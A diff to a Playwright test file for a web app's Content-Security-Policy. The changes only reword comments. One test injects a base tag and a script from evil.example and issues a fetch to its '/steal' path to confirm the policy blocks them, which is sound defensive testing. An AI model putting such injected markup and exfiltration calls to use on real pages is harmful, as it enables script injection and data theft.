@@ -1,7 +1,7 @@
 import type { Page } from '@playwright/test';
 import { expect, signIn, test } from './support.ts';
 
-/** What the page's Content-Security-Policy refused, as the browser tells it, from the first script on. */
+/** Collects violations of the page's Content-Security-Policy from the first script on. */
 const watch = async (page: Page): Promise<() => Promise<string[]>> => {
     await page.addInitScript(() => {
         const seen: string[] = [];
@@ -16,7 +16,7 @@ const watch = async (page: Page): Promise<() => Promise<string[]>> => {
 const button = (page: Page, name: string) => page.getByRole('button', { name, exact: true });
 const save = (page: Page) => button(page, 'Enregistrer');
 
-/** Somebody else saves the record that is open. */
+/** Another person saves the open record. */
 const changeMeanwhile = (page: Page, color: string): Promise<number> =>
     page.evaluate(async value => {
         const headers = {
@@ -72,7 +72,7 @@ test('MUI’s styles take effect: the policy did not refuse them silently', asyn
     for (const nonce of nonces) expect(nonce).toMatch(/^[\w-]{22}$/);
 });
 
-/** Here the browser is meant to complain, on its console too. */
+/** Without the console check, because the browser is expected to report errors. */
 const intruded = test.extend({ consoleIsClean: undefined });
 
 intruded('markup that got into the page neither runs nor sends anything', async ({ page, server }) => {
@@ -86,7 +86,7 @@ intruded('markup that got into the page neither runs nor sends anything', async 
         document.body.insertAdjacentHTML('beforeend', '<style>body { display: none }</style>');
         document.body.insertAdjacentHTML('beforeend', '<base href="https://evil.example/">');
         document.body.append(Object.assign(document.createElement('script'), { src: `${elsewhere}/evil.js` }));
-        // It must fail; that the policy is why, the events tell.
+        // The rejection is expected; the events show that the policy caused it.
         void fetch(`${elsewhere}/steal`).catch(() => undefined);
     }, 'https://evil.example');
     await expect
